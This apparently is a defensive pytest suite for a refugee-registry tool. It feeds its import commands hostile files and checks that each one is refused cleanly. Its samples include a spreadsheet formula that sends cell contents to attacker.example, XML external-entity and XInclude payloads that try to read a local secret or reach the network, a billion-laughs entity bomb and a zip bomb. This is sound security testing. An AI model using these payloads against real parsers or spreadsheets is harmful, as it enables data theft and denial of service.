"""Every `refuge` command that reads a file, against files a careless or hostile sender makes.

A bad file gets exactly one line on standard error that says what is wrong and where
(the row and field for a CSV file, the record and field for PFIF), and exit status 1;
never a traceback, never a half-written output. What a spreadsheet would run as a
formula comes back out as text. The commands are found by walking every refuge
command's arguments, so a new command that reads a file fails here until it is listed.
"""

from __future__ import annotations

import argparse
import csv
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.core.management import ManagementUtility, get_commands, load_command_class

from refuge.core.linkage.cli import link_parser
from refuge.core.linkage.cli import parser as dedupe_parser

HOSTILE = (
    "empty", "binary", "not_utf8", "long_field", "absurd_number", "missing_column",
    "duplicate_ids", "formula",
)  # fmt: skip
LONG = "Щ" * 200_000
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Открыть")'
BINARY = bytes(range(256)) * 40

# Arguments that name a file the command reads, and those it writes.
READERS = {
    "dedupe input", "link left", "link right", "place households", "place shelters", "place travel_matrix",
    "place quotas", "pfif import file", "createuser password_file", "restore input",
    "cap import files", "import kobo file", "import odk file", "import households file",
    "import households mapping", "import shelters file",
}  # fmt: skip
WRITERS = {
    "dedupe out", "dedupe pairs", "link out", "place out", "pfif export out", "backup output",
    "xlsform out", "import kobo report", "import odk report",
    "import households report",
}  # fmt: skip
# A command that hands its arguments to a parser of its own: walk that one instead.
OWN_PARSERS: dict[str, Callable[[], argparse.ArgumentParser]] = {
    "dedupe": dedupe_parser,
    "link": link_parser,
}
DJANGO_OPTIONS = {"settings", "pythonpath"}  # every command has them; they name no data file
FILE_WORDS = re.compile(
    r"file|path|csv|input|output|^out$|^pairs$|households|shelters|matrix|quotas"
)


def _arguments(
    prefix: str, parser: argparse.ArgumentParser
) -> Iterator[tuple[str, argparse.Action]]:
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                yield from _arguments(f"{prefix} {name}", sub)
        else:
            yield f"{prefix} {action.dest}", action


def file_arguments() -> set[str]:
    found = set()
    for name, app in get_commands().items():
        if not app.startswith("refuge"):
            continue
        if name in OWN_PARSERS:
            parser = OWN_PARSERS[name]()
        else:
            parser = load_command_class(app, name).create_parser("refuge", name)
        for label, action in _arguments(name, parser):
            if action.dest in DJANGO_OPTIONS:
                continue
            if action.nargs == argparse.REMAINDER:
                raise AssertionError(f"{label}: list the parser behind it in OWN_PARSERS")
            if (
                action.type is Path
                or isinstance(action.type, argparse.FileType)
                or (FILE_WORDS.search(action.dest))
            ):
                found.add(label)
    return found


def test_every_file_argument_of_every_command_is_listed() -> None:
    assert file_arguments() == READERS | WRITERS


def test_every_command_module_that_opens_a_file_is_listed() -> None:
    source = Path(__file__).parents[1] / "src" / "refuge"
    readers = {label.split()[0] for label in READERS}
    pattern = re.compile(r"open\(|read_bytes|read_text|iterparse|np\.load|json\.load")
    opening = {
        path.stem
        for path in source.glob("*/management/commands/*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    } | {
        name
        for path in source.glob("core/*/cli.py")
        for name in {"linkage": ("dedupe", "link"), "placement": ("place",)}[path.parent.name]
    }
    # `jobs enqueue --payload` parses JSON from its argument, never from a file
    assert opening - readers - {"serve", "jobs"} == set()


# What each hostile kind looks like for a CSV file with these columns and a good row.
def csv_file(columns: list[str], good: list[str], kind: str, id_column: int = 0) -> bytes:
    def text(rows: list[list[str]]) -> bytes:
        lines = [",".join(columns)] + [",".join(_quoted(v) for v in row) for row in rows]
        return ("\n".join(lines) + "\n").encode("utf-8")

    other = list(good)
    other[id_column] = good[id_column] + "-2"
    if kind == "empty":
        return b""
    if kind == "binary":
        return BINARY
    if kind == "not_utf8":
        return text([good, other]).replace("Курск".encode(), "Курск".encode("cp1251"))
    if kind == "long_field":
        return text([good, [*other[:1], LONG, *other[2:]]])
    if kind == "absurd_number":
        absurd = [v if not _numeric(v) or i == id_column else "9" * 30 for i, v in enumerate(other)]
        return text([good, absurd])
    if kind == "missing_column":
        return (
            ",".join(columns[1:]) + "\n" + ",".join(_quoted(v) for v in good[1:]) + "\n"
        ).encode()
    if kind == "duplicate_ids":
        return text([good, good])
    if kind == "formula":
        return text([good, [FORMULA, *other[1:]]])
    raise AssertionError(kind)


def _numeric(value: str) -> bool:
    return bool(re.fullmatch(r"[\d-]+", value))  # whole numbers and dates, not coordinates


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


HOUSEHOLDS = (["household_id", "size", "origin_lat", "origin_lon", "needs"],
              ["Курск-1000001", "8", "51.3037", "35.1203", "wheelchair"])  # fmt: skip
SHELTERS = (["shelter_id", "capacity", "lat", "lon", "features", "region"],
            ["ПВР Курск-1", "120", "51.7304", "36.1926", "wheelchair", "Курск"])  # fmt: skip
PFIF_HEAD = b"<pfif:pfif xmlns:pfif='http://zesty.ca/pfif/1.4'>"


def pfif_person(record_id: str, **fields: str) -> bytes:
    entry = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    values = {"person_record_id": record_id, "entry_date": entry, **fields}
    inner = "".join(f"<pfif:{k}>{v}</pfif:{k}>" for k, v in values.items() if v is not None)
    return f"<pfif:person>{inner}</pfif:person>".encode()


def pfif_file(kind: str) -> bytes:
    good = pfif_person("poisk.example/1000001", given_name="Тамара", family_name="Курская")
    second: dict[str, bytes] = {
        "long_field": pfif_person("poisk.example/1000002", given_name=LONG),
        "absurd_number": pfif_person("poisk.example/1000002", age="9" * 30),
        "missing_column": pfif_person("poisk.example/1000002", entry_date=None),  # type: ignore[arg-type]
        "duplicate_ids": good,
        "formula": pfif_person("poisk.example/1000002", given_name=FORMULA.replace("&", "&amp;")),
        "not_utf8": pfif_person("poisk.example/1000002", given_name="Курск").replace(
            "Курск".encode(), "Курск".encode("cp1251")
        ),
    }
    if kind == "empty":
        return b""
    if kind == "binary":
        return BINARY
    return PFIF_HEAD + good + second[kind] + b"</pfif:pfif>"


def password_file(kind: str) -> bytes:
    return {
        "empty": b"", "binary": BINARY, "not_utf8": "Пароль-Курск-2024".encode("cp1251"),
        "long_field": LONG.encode(), "absurd_number": b"9" * 30,
        "missing_column": b"\n", "duplicate_ids": b"Pass-1000001\nPass-1000001\n",
        "formula": FORMULA.encode(),
    }[kind]  # fmt: skip


def cap_file(kind: str) -> bytes:
    """A CAP message Refuge would write, and its hostile variants."""
    from refuge.core import cap
    from tests.core.test_cap import shelter_in_place

    good = cap.write(shelter_in_place())
    if kind == "good":
        return good
    other = good.replace(b"1000001</identifier>", b"1000002</identifier>")
    return {
        "empty": b"",
        "binary": BINARY,
        "not_utf8": other.replace("Тернопіль".encode(), "Тернопіль".encode("cp1251")),
        "long_field": other.replace(b"<note>", b"").replace(
            b"Smoke</event>", b"Smoke" + LONG.encode() * 8 + b"</event>"
        ),
        "absurd_number": other.replace(b"8.5</circle>", b"9" * 30 + b"</circle>").replace(
            b"49.554,", b"4" * 30 + b","
        ),
        "missing_column": re.sub(rb"<sent>[^<]*</sent>", b"", other),
        "duplicate_ids": good,  # the same message twice: stored once
        "formula": other.replace(b"Stay inside.", FORMULA.replace("&", "&amp;").encode()),
    }[kind]


# Where the message must point: the row (the header is row 1) or the record, and the field.
WHERE = {
    **{(cmd, "long_field"): r"row 3.*200,000 characters" for cmd in ("dedupe", "link", "place")},
    **{(cmd, "absurd_number"): r"row 3" for cmd in ("dedupe", "link", "place")},
    **{(cmd, "duplicate_ids"): r"row 3" for cmd in ("dedupe", "link", "place")},
    ("pfif", "long_field"): r"person poisk.example/1000002, given_name: 200,000 characters",
    ("pfif", "absurd_number"): r"person poisk.example/1000002, age",
    ("pfif", "missing_column"): r"person poisk.example/1000002: entry_date is missing",
    ("createuser", "long_field"): r"--password-file",
    **{("cap", kind): r"alert\.xml: " for kind in HOSTILE},
    ("cap", "missing_column"): r"<sent>: missing",
    ("cap", "absurd_number"): r"<circle>",
    ("cap", "long_field"): r"3,\d{3},\d{3} bytes",
}


# (reader, hostile kind) pairs that are good input for that reader: they must succeed.
ACCEPTED = {
    ("cap import files", "duplicate_ids"),  # the same message twice is stored once
    ("cap import files", "formula"),  # XML, stored as sent, never a spreadsheet cell
    ("pfif import file", "duplicate_ids"),  # the newer copy of a record wins
    ("pfif import file", "formula"),  # XML, stored as typed, never a spreadsheet cell
    ("createuser password_file", "absurd_number"),
    ("createuser password_file", "duplicate_ids"),  # a two-line password, first line kept whole
    ("createuser password_file", "formula"),
    # Ids such as =HYPERLINK(…) are read as typed and written back neutralised.
    ("dedupe input", "formula"),
    ("link left", "formula"),
    ("link right", "formula"),
    ("place households", "formula"),
    ("place shelters", "formula"),
    ("place travel_matrix", "formula"),
    # An export's bad rows are the dry run's report, not a refusal of the file: the row
    # with the formula has no submission uuid, the absurd size disagrees with its members.
    *{(f"import {source} file", kind) for source in ("kobo", "odk")
      for kind in ("formula", "absurd_number", "duplicate_ids")},
}  # fmt: skip


def command_line(reader: str, kind: str, tmp: Path) -> list[str]:
    def put(name: str, content: bytes) -> str:
        (tmp / name).write_bytes(content)
        return str(tmp / name)

    households = csv_file(*HOUSEHOLDS, kind if reader == "place households" else "formula")
    shelters = csv_file(*SHELTERS, kind if reader == "place shelters" else "formula")
    place = ["place", "--households", put("h.csv", households),
             "--shelters", put("s.csv", shelters), "--out", str(tmp / "a.csv")]  # fmt: skip
    if reader == "dedupe input":
        people = csv_file(["id", "family_name", "given_name", "birth_date", "settlement"],
                          ["1000001", "Курская", "Тамара", "1948-03-14", "Суджа"], kind)  # fmt: skip
        return ["dedupe", put("in.csv", people), "--out", str(tmp / "clusters.csv"),
                "--pairs", str(tmp / "pairs.csv")]  # fmt: skip
    if reader in ("link left", "link right"):
        columns = ["id", "family_name", "given_name", "birth_date", "settlement"]
        good = ["1000001", "Курская", "Тамара", "1948-03-14", "Суджа"]
        left = csv_file(columns, good, kind if reader == "link left" else "formula")
        right = csv_file(columns, good, kind if reader == "link right" else "formula")
        return ["link", put("left.csv", left), put("right.csv", right),
                "--out", str(tmp / "links.csv")]  # fmt: skip
    if reader in ("place households", "place shelters"):
        return place
    if reader == "place travel_matrix":
        good = ["Курск-1000001", "ПВР Курск-1", "95"]
        matrix = csv_file(["household_id", "shelter_id", "minutes"], good, kind)
        return [*place, "--travel-matrix", put("m.csv", matrix)]
    if reader == "place quotas":
        return [
            *place,
            "--quotas",
            put("q.csv", csv_file(["region", "max_persons"], ["Курск", "5000"], kind)),
        ]
    if reader == "pfif import file":
        return ["pfif", "import", put("feed.xml", pfif_file(kind))]
    if reader == "createuser password_file":
        return ["createuser", "coordinator-1000001", "--role", "national_coordinator",
                "--password-file", put("password.txt", password_file(kind))]  # fmt: skip
    if reader == "cap import files":
        return [
            "cap",
            "import",
            put("good.xml", cap_file("good")),
            put("alert.xml", cap_file(kind)),
        ]
    if reader in ("import kobo file", "import odk file"):
        export = csv_file(["_uuid", "_submission_time", "household/origin", "household/household_size"],
                          ["6f1c2d3e-0000-4000-8000-000001000001", "2024-08-10T08:00:00", "Курск", "3"],
                          kind)  # fmt: skip
        if reader == "import odk file":
            export = export.replace(b"_uuid", b"KEY", 1)
        return ["import", reader.split()[1], put("export.csv", export), "--apply"]
    if reader == "import households file":
        listed = csv_file(
            ["ФИО", "Дата рождения"], ["Шевчук Григорий Тарасович", "14.03.1948"], kind
        )
        return ["import", "households", put("list.csv", listed), "--apply"]
    if reader == "import households mapping":
        good = "ФИО,Дата рождения\nШевчук Григорий Тарасович,14.03.1948\n".encode()
        return ["import", "households", put("list.csv", good),
                "--mapping", put("mapping.json", csv_file(["columns"], ["{}"], kind))]  # fmt: skip
    if reader == "import shelters file":
        listed = csv_file(["Название", "Вместимость"], ["Школа № 3", "120"], kind)
        return ["import", "shelters", put("shelters.csv", listed), "--user", "coordinator-1"]
    if reader == "restore input":
        return ["restore", put("backup.refuge", csv_file(["id"], ["1000001"], kind)), "--force"]
    raise AssertionError(f"{reader}: say how to call it")


@pytest.fixture
def operation_only(transactional_db):  # type: ignore[no-untyped-def]
    from refuge.geo.models import Region
    from refuge.operations.models import Operation

    region = Region.objects.create(
        code="RU-KRS", name_en="Kursk Oblast", name_ru="Курская область", country="RU"
    )
    Operation.objects.create(slug="kursk-2024", name="Курск 2024", affected_region=region,
                             started_at=datetime(2024, 8, 6, tzinfo=UTC))  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("reader", sorted(READERS))
def test_a_hostile_file_gets_one_line_and_exit_1(
    reader: str, kind: str, tmp_path: Path, capfd: pytest.CaptureFixture[str], operation_only: None
) -> None:
    argv = command_line(reader, kind, tmp_path)
    try:
        ManagementUtility(["refuge", *argv]).execute()
        status = 0
    except SystemExit as exit_:
        status = int(exit_.code or 0)
    err = capfd.readouterr().err.strip()
    if (reader, kind) in ACCEPTED:
        assert status == 0, err
    else:
        assert status == 1, f"exit {status}: {err[:300]}"
        assert len(err.splitlines()) == 1 and "Traceback" not in err, err[:2000]
        assert len(err) < 400, err[:400]
        assert re.search(WHERE.get((reader.split()[0], kind), ""), err), err
    for written in ("clusters.csv", "pairs.csv", "a.csv", "links.csv"):
        if (tmp_path / written).exists():
            assert status == 0  # nothing is written for a refused file
            with (tmp_path / written).open(encoding="utf-8", newline="") as f:
                cells = [cell for row in csv.reader(f) for cell in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
            assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]


# Hostile XML for `refuge cap import`: what it names must never be read.
def _hostile_cap(kind: str, secret: Path, url: str) -> bytes:
    from refuge.core import cap

    head = f'<alert xmlns="{cap.NS12}"><identifier>'
    tail = "</identifier></alert>"
    if kind == "xxe_file":
        return (f'<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY x SYSTEM "file://{secret}">]>'
                f"{head}&x;{tail}").encode()  # fmt: skip
    if kind == "xxe_network":
        return (f'<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY x SYSTEM "{url}">]>'
                f"{head}&x;{tail}").encode()  # fmt: skip
    if kind == "external_dtd":
        return f'<?xml version="1.0"?><!DOCTYPE alert SYSTEM "{url}">{head}1{tail}'.encode()
    if kind == "billion_laughs":
        entities = '<!ENTITY a "lol">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
        )
        return f'<?xml version="1.0"?><!DOCTYPE alert [{entities}]>{head}&j;{tail}'.encode()
    if kind == "xinclude":
        return (f'{head}1</identifier><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                f'href="file://{secret}" parse="text"/></alert>').encode()  # fmt: skip
    if kind == "twenty_megabytes":
        return b"<" * (20 * 1024 * 1024)
    raise AssertionError(kind)


@pytest.mark.parametrize(
    "kind",
    ["xxe_file", "xxe_network", "external_dtd", "billion_laughs", "xinclude", "twenty_megabytes"],
)
def test_hostile_cap_xml_is_refused_without_reading_what_it_names(
    kind: str, tmp_path: Path, capfd: pytest.CaptureFixture[str], operation_only: None
) -> None:
    import socket
    import threading

    from refuge.alerts.models import Alert

    secret = tmp_path / "secret.txt"
    secret.write_text("ПАРОЛЬ-1948")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    knocks: list[object] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                knocks.append(listener.accept())
            except OSError:
                continue

    watcher = threading.Thread(target=watch)
    watcher.start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/alert.dtd"
    (tmp_path / "alert.xml").write_bytes(_hostile_cap(kind, secret, url))
    before = secret.stat().st_atime_ns
    try:
        ManagementUtility(["refuge", "cap", "import", str(tmp_path / "alert.xml")]).execute()
        status = 0
    except SystemExit as exit_:
        status = int(exit_.code or 0)
    finally:
        stop.set()
        watcher.join()
        listener.close()
    err = capfd.readouterr().err.strip()
    assert status == 1 and len(err.splitlines()) == 1 and "Traceback" not in err, err[:500]
    assert "alert.xml: " in err and "ПАРОЛЬ" not in err
    assert knocks == [] and secret.stat().st_atime_ns == before
    assert Alert.objects.count() == 0


def _xlsx_with(tmp: Path, sheet_xml: bytes, level: int = 9) -> Path:
    """A minimal .xlsx whose one sheet is `sheet_xml`, written a chunk at a time."""
    import zipfile

    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }  # fmt: skip
    path = tmp / "export.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return path


def _sheet(rows: str) -> bytes:
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


BAD_EXPORTS = {
    "not a spreadsheet": (lambda tmp: _put(tmp, "export.xlsx", "Курск, вокзал".encode()),
                          r"not a spreadsheet"),
    "wrong encoding": (lambda tmp: _put(tmp, "export.csv",
                                        "_uuid,household/origin\n1,Суджа\n".encode("cp1251")),
                       r"row 2 is not UTF-8"),
    "50 MB of one column": (lambda tmp: _put(tmp, "export.csv", b"x\n" + b"1234567\n" * 6_500_000),
                            r"no _uuid .* column"),
    "formula": (lambda tmp: _xlsx_with(tmp, _sheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>_uuid</t></is></c></row>'
        '<row r="2"><c r="A2"><f>HYPERLINK("http://attacker.example/","x")</f></c></row>')),
                r"row 2, _uuid: a formula"),
    "damaged sheet": (lambda tmp: _xlsx_with(tmp, b"<worksheet><sheetData><row><c r="),
                      r"not a workbook|damaged"),
    "zip bomb": (lambda tmp: _xlsx_with(tmp, _sheet("<row/>" * 80_000_000)),
                 r"would unpack to [\d,]+ bytes"),
}  # fmt: skip


def _put(tmp: Path, name: str, content: bytes) -> Path:
    (tmp / name).write_bytes(content)
    return tmp / name


@pytest.mark.parametrize("bad", sorted(BAD_EXPORTS))
def test_a_bad_export_is_refused_and_nothing_saved(
    bad: str, tmp_path: Path, capfd: pytest.CaptureFixture[str], operation_only: None
) -> None:
    from refuge.audit.models import AuditEvent
    from refuge.registry.models import Household

    make, where = BAD_EXPORTS[bad]
    path = make(tmp_path)
    try:
        ManagementUtility(["refuge", "import", "kobo", str(path), "--apply"]).execute()
        status = 0
    except SystemExit as exit_:
        status = int(exit_.code or 0)
    err = capfd.readouterr().err.strip()
    assert status == 1 and len(err.splitlines()) == 1 and "Traceback" not in err, err[:500]
    assert re.search(where, err), err
    assert not Household.objects.exists() and not AuditEvent.objects.exists()
